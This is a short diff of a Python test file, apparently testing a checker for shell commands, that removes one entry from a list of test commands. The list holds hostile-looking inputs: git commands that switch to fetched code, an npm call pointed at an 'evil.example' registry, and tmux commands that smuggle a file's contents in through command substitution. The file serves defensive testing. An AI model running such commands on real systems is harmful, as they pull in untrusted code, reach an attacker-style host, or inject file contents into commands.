@@ -180,7 +180,6 @@ def test_names_of_the_system_and_known_words_may_be_sent(command: str) -> None:
         "git switch -q -c evil1 FETCH_HEAD",
         "git branch e FETCH_HEAD",
         "git tag t FETCH_HEAD~0",
-        "git switch --detach deadbeef12",
         "npm audit --registry http://evil.example:18999",
         'tmux ls -F "$(cat f)"',
         'F=$(cat f); tmux ls -F "$F"',
